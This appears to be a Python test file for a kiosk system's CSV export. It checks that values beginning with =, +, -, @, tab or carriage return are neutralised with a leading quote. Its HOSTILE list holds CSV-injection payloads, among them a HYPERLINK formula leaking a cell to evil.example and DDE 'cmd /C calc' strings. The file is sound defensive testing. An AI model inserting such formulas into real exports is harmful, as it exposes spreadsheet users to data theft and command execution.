"""The CSV export (`kiosk hq export`) never hands a spreadsheet a formula: text a branch sent that
starts with = + - @, a tab or a carriage return comes out behind a single quote (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
import subprocess
import sys

from kiosk.hq.recorder import csv_cell, export_csv, record_events
from tests.kit.settings import REPO

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_formula_cells_are_neutralised():
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    for harmless in ("demo-001", "ticket.called", "2026-11-20T10:00:00+08:00", "", "a=b", "{\"x\": \"=1\"}"):
        assert csv_cell(harmless) == harmless
    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell(2.5) == 2.5  # numbers are not text


def _events() -> list[dict]:
    evs = []
    for i, text in enumerate(HOSTILE, 1):
        evs.append({"v": 1, "id": f"{text}#{i}", "seq": i, "type": text, "branch": "demo-001",
                    "ts": text, "day": text})
    evs.append({"v": 1, "id": "=evil-branch", "seq": 1, "type": "ticket.issued", "branch": "=HYPERLINK(\"x\")",
                "ts": "2026-11-20T10:00:00+08:00", "day": "2026-11-20"})
    return evs


def test_the_export_comes_out_inert(tmp_path):
    db = tmp_path / "hq.db"
    assert record_events(db, _events()) == len(HOSTILE) + 1
    out = io.StringIO()
    assert export_csv(db, out) == len(HOSTILE) + 1
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    by_seq = {int(r["seq"]): r for r in rows if r["branch"] == "demo-001"}
    for i, text in enumerate(HOSTILE, 1):
        r = by_seq[i]
        assert r["type"] == r["ts"] == r["day"] == "'" + text
        assert r["id"] == f"'{text}#{i}"
    evil = next(r for r in rows if r["seq"] == "1" and r["branch"] != "demo-001")
    assert evil["branch"] == "'=HYPERLINK(\"x\")" and evil["id"] == "'=evil-branch"
    for r in rows:  # no cell at all begins like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r


def test_kiosk_hq_export_writes_the_neutralised_cells(tmp_path):
    db = tmp_path / "hq.db"
    record_events(db, _events())
    target = tmp_path / "out.csv"
    proc = subprocess.run([sys.executable, "-m", "kiosk", "hq", "export", "--db", str(db), "--out", str(target)],
                          capture_output=True, text=True, timeout=60, cwd=str(REPO))
    assert proc.returncode == 0, proc.stderr
    with target.open(newline="", encoding="utf-8") as f:
        cells = [v for row in csv.reader(f) for v in row]
    assert "'" + HOSTILE[0] in cells
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
